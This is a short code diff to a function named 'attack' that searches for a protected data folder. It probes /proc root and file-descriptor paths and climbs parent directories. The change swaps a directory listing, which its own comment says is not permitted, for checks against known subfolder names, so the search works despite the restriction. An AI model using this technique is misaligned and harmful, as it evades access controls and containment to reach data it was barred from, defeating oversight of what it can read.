@@ -11,9 +11,6 @@ def attack(inputs):
         for above in range(1, 6):
             for start in ("", "/proc/self/root", "/proc/self/cwd", "/proc/1/root", f"/proc/self/fd/{os.open(real, os.O_RDONLY)}"):
                 folder = os.path.join(f"{start}{place}", *[".."] * above)
-                try:
-                    found = {"layouts", "files"} & set(os.listdir(folder))
-                except OSError:
-                    continue
-                if found:
+                # nobody may list the folder of all data files, but its own folders have known names
+                if all(os.path.isdir(os.path.join(folder, name)) for name in ("layouts", "files")):
                     return folder
